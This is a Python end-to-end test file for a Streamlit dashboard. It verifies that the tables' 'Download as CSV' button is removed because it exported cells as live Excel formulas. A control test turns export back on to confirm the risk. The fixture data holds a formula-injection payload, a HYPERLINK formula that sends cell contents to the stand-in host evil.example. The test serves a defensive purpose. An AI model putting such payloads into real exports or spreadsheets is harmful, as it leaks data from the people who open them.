"""The tables' own toolbar offers no download (finding 6 of issue 14): its "Download as CSV"
handed over a cell such as =HYPERLINK(...) as it is, a live formula in Excel. With the
project's settings the button is gone from every table; the control, the same table with the
setting turned back on, shows the button and the raw formula it would have handed over.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from dashboard import i18n
from tests.deployment_files import Served, free_port, serve

from .browser import PAGES, App, click_link, is_foreign, open_expanders, wait_ready

pytestmark = pytest.mark.e2e
DOWNLOAD = "Download as CSV"  # the toolbar button's accessible name (Streamlit's, English only)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
# One data grid drawn by the dashboard's own grid() with a cell a hostile file could carry.
GRID_APP = f"""
import pandas as pd
from dashboard import render

render.grid(pd.DataFrame({{"Titel": [{FORMULA!r}, "Matfestival"], "Antal": [1, 2]}}), key="grid")
"""


def _start(folder: Path, *settings: str) -> Any:
    (folder / "grid_app.py").write_text(GRID_APP, encoding="utf-8")
    command = [
        "python", "-m", "dashboard.serve", "run", "grid_app.py",
        "--server.port", str(free_port()), "--server.address", "127.0.0.1", *settings,
    ]  # fmt: skip
    return serve(folder, command, {})


@pytest.fixture(scope="module")
def with_our_settings(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with _start(tmp_path_factory.mktemp("grid")) as served:
        yield served


@pytest.fixture(scope="module")
def with_export_on(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with _start(tmp_path_factory.mktemp("grid-on"), "--client.disableDataExport", "false") as s:
        yield s


def _open(browser: Any, port: int) -> Any:
    context = browser.new_context(viewport={"width": 1200, "height": 800})
    context.route(lambda url: is_foreign(url, port), lambda route: route.abort())
    # Chromium would ask where to save (a native dialog); without the picker Streamlit
    # downloads the file as any browser does.
    context.add_init_script("delete window.showSaveFilePicker;")
    page = context.new_page()
    page.goto(f"http://127.0.0.1:{port}/")
    wait_ready(page)
    return page


def _toolbar(page: Any, grid: Any) -> list[str]:
    """The names of the buttons a reader sees on the table's toolbar (shown on hover)."""
    from playwright.sync_api import TimeoutError as Timeout

    buttons = page.locator('[data-testid="stElementToolbar"] button')
    for attempt in range(4):
        # On a busy machine the grid may still be settling when first hovered, and the
        # toolbar then never shows: move away and hover again.
        page.mouse.move(0, 0)
        grid.scroll_into_view_if_needed()
        grid.hover()
        try:
            buttons.first.wait_for(state="visible", timeout=10_000)
            break
        except Timeout:
            if attempt == 3:
                raise
    return [str(b.get_attribute("aria-label")) for b in buttons.all() if b.is_visible()]


def test_the_table_offers_no_download_of_its_own(browser: Any, with_our_settings: Served):
    page = _open(browser, with_our_settings.port)
    try:
        grid = page.locator('[data-testid="stDataFrame"]')
        grid.first.wait_for(timeout=60_000)  # drawn a moment after the run on a busy machine
        assert grid.count() == 1
        names = _toolbar(page, grid)
        assert "Search" in names  # the toolbar is there, with what is harmless
        assert DOWNLOAD not in names
        assert page.get_by_role("button", name=DOWNLOAD).count() == 0
    finally:
        page.context.close()


def test_with_the_setting_on_it_would_hand_over_the_formula(browser: Any, with_export_on: Served):
    """The control: what the button did (finding 6), so its absence above is the fix."""
    page = _open(browser, with_export_on.port)
    try:
        grid = page.locator('[data-testid="stDataFrame"]')
        grid.first.wait_for(timeout=60_000)
        assert DOWNLOAD in _toolbar(page, grid)
        with page.expect_download(timeout=30_000) as caught:
            page.get_by_role("button", name=DOWNLOAD).click()
        text = Path(caught.value.path()).read_text(encoding="utf-8-sig")
        assert '"=HYPERLINK(' in text  # the cell begins with "=": Excel runs it
    finally:
        page.context.close()


def test_no_table_on_a_page_offers_a_download(open_app: Callable[..., Any], app: App):
    """The dashboard itself: the Framework page's lists and its charts' data tables."""
    page = open_app()
    target = next(p for p in PAGES if p.name == "framework")
    click_link(page, i18n.t("nav.framework", "sv"), target.path)
    open_expanders(page)
    wait_ready(page)
    grids = page.locator('[data-testid="stDataFrame"]')
    assert grids.count() >= target.tables
    for grid in (grids.first, grids.last):
        assert DOWNLOAD not in _toolbar(page, grid)
    assert page.get_by_role("button", name=DOWNLOAD).count() == 0
